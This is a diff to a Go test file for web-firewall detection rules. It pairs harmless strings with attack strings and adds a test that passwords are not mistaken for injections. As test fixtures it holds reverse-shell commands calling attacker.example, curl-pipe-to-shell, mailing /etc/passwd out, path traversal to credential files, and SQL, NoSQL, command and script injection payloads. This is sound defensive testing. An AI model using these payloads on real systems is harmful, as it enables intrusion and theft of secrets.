@@ -24,16 +24,20 @@ var harmless = []struct {
 	{930110, "in docs/cache/../old", "a/b/..;/..;/..;/manager"},
 	{930110, "web/a/./../x", "see a/b/c ../../etc"},
 	{930110, "web/a/../x, web/b/../x", "a /mnt/efs/cache/../old"},
-	{930110, `\\server\dir$\a\..\b`, `/mnt/efs/cache/../old`},
+	{930110, `\\server\dir$\a\..\b`, `/mnt/efs/../old`},
+	{930110, "/mnt/efs/cache/../old", "/mnt/efs/cache/../../other/old"},
 	{932130, "2026/04/09/[$LATEST]0a1b", "2026/04/09/[$LATEST]$(id)"},
 	{932130, "static/chunks/[...slug].js", "static/chunks/[...slug]${IFS}x"},
 	{932130, "arn:aws:s3:::uploads/${aws:username}/*", "${aws:username}${IFS}"},
 	{933135, "x?stack=${AWS::StackName}&a=1", "${AWS::StackName}${system(1)}"},
+	{932130, "    at Object.<anonymous> (/var/task/index.js:1:15)", "at Object.<(id) (/var/task/index.js:1:15)"},
+	{934100, "at process.processTicksAndRejections (node:internal/process/task_queues:95:5)", "at process.binding('fs') (node:internal/x:95:5)"},
 	{932160, "/usr/bin/node", "x; /bin/bash -c 'id'"},
 	{932160, "$HOME/bin", "|nc attacker.example 4444 -e /bin/sh"},
 	{932160, "Process '/bin/bash' in container 'web' created a socket", "nc attacker.example 4444 -e /bin/sh"},
 	{932160, "etc/passwd.sample", "/bin/ca't'+/etc/passwd"},
 	{932235, "pump?x=1&SDK=Python&Version=2.1.0", "pump; perl -e 1; cat /x&SDK=Python&Version=2.1.0"},
+	{932235, "clean up (/tmp/exports/*) & mail the ops' report; skip on 1/1", "clean up & mail the -s x eve@attacker.example < /etc/passwd"},
 	{932260, "base64", "; base64 -d x"},
 	{941100, `<?xml version="1.0"?><a><![CDATA[x]]></a>`, `<?xml version="1.0"?><a onclick="x()">`},
 	{941130, `<gpx xmlns="http://www.topografix.com/GPX/1/1"><name>x</name></gpx>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">x()</x:script>`},
@@ -65,6 +69,7 @@ var harmless = []struct {
 	{942350, "requests may fail; SELECT queries from existing connections are slow", "1; select password from users"},
 	{942540, "expected ';' before '}' token", "admin'; x"},
 	{942550, `{"a":"{}","b":["[1]"]}`, `{"a":"x' or '{}' ? 'a"}`},
+	{942550, "ts,payload\n1,\"{\"\"v\"\":7.5}\"\n2,\"[1]\"\n", "ts,payload\n1,x\" or \"{\"\"v\"\":7.5}\" ? \"v"},
 	{942550, "StackId='arn:aws:x'\nProperties='{\"a\":\"b\"}'\n", `x' or '{"a":1}' ? 'a`},
 }
 
@@ -165,7 +170,7 @@ func TestKindsLeaveOutWhatTheySayAndUnknownNothingOfItsOwn(t *testing.T) {
 		{"password", 942100, false},
 		{"nothing", 942100, true},
 	} {
-		if got := rules.Counts(c.kind, c.rule); got != c.want {
+		if got := rules.Counts(c.kind, c.rule, func() (string, bool) { return "r;7'k|Q--", true }); got != c.want {
 			t.Errorf("%d on %s counts: %v", c.rule, c.kind, got)
 		}
 	}
@@ -228,6 +233,10 @@ var attacks = []string{
 	"admin';", "A='b'\nid;curl x|sh\nB='c'", "A='{\"a\":1}'\n' or '{\"a\":1}' ? 'a", "/tmp/../etc/passwd",
 	"/tmp/a/*/../../etc/passwd", "(/var/log)/../../etc/passwd", "/var/log /etc/passwd",
 	"https://x.aws/.aws/credentials", "file://x.aws/credentials", "https://../.aws/", "${aws:x}${jndi:ldap://x}",
+	"${aws:`id`}", "/mnt/efs/a/../../../x", "/mnt/efs/a/..%2f../x", "/mnt/efs/../x", "/mnt/efs/a/../x;id",
+	"/var/www/html/../../../etc/passwd", "; mail the; curl attacker.example|sh", "& find the / -exec sh {} +",
+	"| sort the -o /tmp/x --compress-program=sh", "1,\"{\"\"a\"\":1}\" or \"[1]\" ? 1", ",\"{\"\"a\"\":1}'x' or '{\"\"\"a\":1}' ? 'a",
+	"at x (/bin/id)\n$(id)", "at x.<anonymous> (/a:1:1) <(id)", "at process.mainModule.require('child_process') (/a:1:1)",
 	"${aws:`id`}", "[$LATEST]$(id)", "/a[...x]/b[id]", "user(id:1) or user()", "user (x: 1) union select user()",
 }
 
@@ -243,12 +252,53 @@ func TestAttacksWrittenLikeWhatIsHarmlessStillCount(t *testing.T) {
 		}
 		score := 0
 		for _, m := range found {
-			if _, after := find(t, e, m.Rule, text); after && rules.Counts("unknown", m.Rule) {
+			if _, after := find(t, e, m.Rule, text); after && rules.Counts("unknown", m.Rule, nil) {
 				score += m.Score
 			}
 		}
 		if score < 5 {
 			t.Errorf("%q scores %d", text, score)
 		}
+	}
+}
+
+func TestWhatHasTheWordsOfAnAttackIsNoPassword(t *testing.T) {
+	for _, c := range []struct {
+		rule int
+		text string
+		want bool
+	}{
+		{942100, `r;7'k|Qz"--$(9<w>#%&*!`, false},
+		{942100, "Orion's belt; 42--", false},
+		{942100, "' or '1'='1", true},
+		{942100, "1' OR(1)=(1)#", true},
+		{942100, "x'||'1", true},
+		{942190, "1'/*!50000UNION*//*!50000SELECT*/@@version", true},
+		{942100, "1or'1'='1'", true},
+		{942100, "1'o\x00r'1", true},
+		{942540, "a';Gq#9", false},
+		{942290, "pa$in", false},
+		{942290, "$ne", true},
+		{942290, `{"$gt":""}`, true},
+		{932250, "x;W*|", false},
+		{932250, "x;id", true},
+		{932230, "1; c\\at x", true},
+		{932230, "x|/etc/passwd", true},
+		{933135, "a$b<?c", false},
+		{933100, "<?php x", true},
+		{933180, "$_GET(1)", true},
+		{941110, "<script>", true},
+		{942100, "(SELECT @@datadir)", true},
+		{932130, "a$(9<w>", false},
+		{932130, "play $(id)", true},
+		{932130, "x<(cat /etc/passwd)", true},
+		{932130, "${IFS}", true},
+	} {
+		if got := rules.Counts("password", c.rule, func() (string, bool) { return c.text, true }); got != c.want {
+			t.Errorf("%d counts on %q: %v", c.rule, c.text, got)
+		}
+	}
+	if !rules.Counts("password", 942100, func() (string, bool) { return "", false }) {
+		t.Error("a text that is not known does not count")
 	}
 }
